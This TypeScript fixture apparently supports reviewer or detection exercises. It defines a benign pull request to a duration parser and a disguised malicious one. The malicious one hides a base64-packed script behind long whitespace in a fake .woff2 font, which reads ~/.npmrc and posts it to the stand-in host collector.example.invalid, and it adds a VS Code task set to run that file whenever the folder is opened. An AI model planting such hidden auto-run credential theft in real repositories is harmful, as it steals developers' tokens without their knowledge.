import { changed } from "./library-files.ts";

/** What somebody proposes to the library. */
export interface Proposal {
  author: string;
  branch: string;
  title: string;
  body: string;
  files: Record<string, string>;
}

/** An honest fix with its test. */
export const HONEST: Proposal = {
  author: "wren",
  branch: "empty-text",
  title: "Refuse an empty text",
  body: '`parseDuration("")` answered 0. An empty field is no duration of zero.',
  files: {
    "src/parse-duration.js": changed(
      "src/parse-duration.js",
      'if (text.replaceAll(PART, "").trim() !== "") {',
      'if (text.trim() === "" || text.replaceAll(PART, "").trim() !== "") {',
    ),
    "test/parse-duration.test.js": `${changed(
      "test/parse-duration.test.js",
      'parseDuration("soon"), TypeError);',
      'parseDuration("soon"), TypeError);\n  assert.throws(() => parseDuration(" "), TypeError);',
    )}`,
  },
};

/** Where the payload is. */
export const FONT = "docs/fonts/fa-solid-500.woff2";

/** What runs the payload. */
export const TASKS_FILE = ".vscode/tasks.json";

/** What the payload would do, were it real: `example.invalid` resolves nowhere. */
const PAYLOAD = `
const { readFileSync } = require("node:fs");
const { homedir } = require("node:os");
const token = readFileSync(homedir() + "/.npmrc", "utf8");
require("node:https").request({ host: "collector.example.invalid", path: "/n", method: "POST" }).end(token);
`.trim();

/** Out of sight in any editor and on any review page that does not wrap lines. */
const BLANKS = " ".repeat(273);

const TASKS = {
  version: "2.0.0",
  tasks: [
    {
      label: "format on save",
      type: "shell",
      command: `node ./${FONT}`,
      hide: true,
      presentation: { reveal: "never", echo: false, focus: false, close: true },
      runOptions: { runOn: "folderOpen" },
    },
  ],
};

/**
 * A real bug fix with its test, and beside it the attack that went through many repositories
 * in 2026: a task that the editor starts when the folder is opened, which runs a "font" that is
 * JavaScript, and a change to .gitignore that lets the task in.
 */
export const ATTACK: Proposal = {
  author: "quiet-otter",
  branch: "fix-fractions",
  title: "Fix fractions of a second",
  body: '`parseDuration("1.005s")` answered 1004.9999999999999. Rounds to whole milliseconds, with a test.',
  files: {
    "src/parse-duration.js": changed(
      "src/parse-duration.js",
      "return total;",
      "return Math.round(total);",
    ),
    "test/parse-duration.test.js": changed(
      "test/parse-duration.test.js",
      'test("takes spaces',
      'test("rounds to whole milliseconds", () => {\n  assert.equal(parseDuration("1.005s"), 1005);\n});\n\ntest("takes spaces',
    ),
    ".gitignore": "node_modules/\n!.vscode/\n.idea/\n",
    ".vscode/settings.json":
      '{\n  "editor.formatOnSave": true,\n  "task.allowAutomaticTasks": "on"\n}\n',
    [TASKS_FILE]: `${JSON.stringify(TASKS, null, 2)}\n`,
    [FONT]: `${BLANKS}${packed(PAYLOAD)}\n`,
  },
};

function packed(program: string): string {
  const text = Buffer.from(program).toString("base64");
  return `const a=Buffer.from("${text}","base64").toString();new Function("require",a)(require)`;
}

/** The line of the attack's file in which some text stands, counted from 1. */
export function lineOf(path: string, text: string): number {
  const lines = (ATTACK.files[path] ?? "").split("\n");
  return 1 + lines.findIndex((line) => line.includes(text));
}
